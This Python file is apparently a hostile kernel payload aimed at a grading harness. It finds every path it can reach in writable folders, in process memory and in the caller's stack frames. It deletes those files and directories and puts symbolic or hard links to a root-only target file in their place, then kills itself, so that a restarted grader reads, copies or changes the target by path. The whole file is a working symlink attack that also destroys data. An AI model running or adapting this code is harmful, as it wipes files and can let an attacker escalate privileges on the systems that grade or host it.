# Swap every path this kernel can reach for links (symbolic and hard) to a root-only file, then die, so
# that the grader restarts the kernel and reads, copies or changes things "by path" if it ever does.
import gc
import os
import shutil
import stat
import sys

TARGET = "__TARGET__"


def _swap(path):
    parent = os.path.dirname(path) or "/"
    if not os.access(parent, os.W_OK | os.X_OK):
        return  # an entry of a folder it cannot write cannot be replaced (and is not worth walking)
    try:
        if os.stat(parent).st_mode & stat.S_ISVTX and os.getuid() not in (os.stat(parent).st_uid, os.lstat(path).st_uid):
            return  # nor can another user's entry of a sticky folder (/tmp): no use walking its tree to try
    except OSError:
        pass
    for link in (os.symlink, os.link):
        try:
            if os.path.isdir(path) and not os.path.islink(path):
                shutil.rmtree(path, ignore_errors=True)
            elif os.path.lexists(path):
                os.unlink(path)
            link(TARGET, path)
            return
        except OSError:
            continue


def _reachable():
    paths = set(arg for arg in sys.argv if arg.startswith("/"))
    for obj in gc.get_objects():
        if isinstance(obj, str) and obj.startswith("/") and len(obj) < 300 and os.path.lexists(obj):
            paths.add(obj)
    for base in {os.getcwd(), os.environ.get("HOME", ""), os.environ.get("TMPDIR", ""), "/tmp", "/dev/shm"}:
        if base and os.path.isdir(base):
            for root, dirs, files in os.walk(base):
                paths.update(os.path.join(root, n) for n in dirs + files)
                # only a folder it can write holds entries it can swap: the rest of the machine is not walked
                dirs[:] = [d for d in dirs if os.access(os.path.join(root, d), os.W_OK | os.X_OK)]
    return paths


def swap_everything():
    for path in sorted(_reachable(), key=len, reverse=True):
        if path.startswith(("/usr", "/proc", "/sys", "/dev/")) and not path.startswith("/dev/shm"):
            continue
        _swap(path)
        if not path.startswith("/tmp"):
            _swap(os.path.dirname(path))


def swap_exchange_and_die():
    """Called by the grader's harness: swap the call's folders and reply files, then die."""
    frame = sys._getframe(1)
    while frame is not None:
        for value in list(frame.f_locals.values()):
            if isinstance(value, str) and value.startswith("/") and os.path.isdir(value):
                for name in ("reply.json", "reply.json.part", "out0.npy", "call.json", "arg0.npy"):
                    _swap(os.path.join(value, name))
                _swap(value)
        frame = frame.f_back
    swap_everything()
    os._exit(1)


swap_everything()
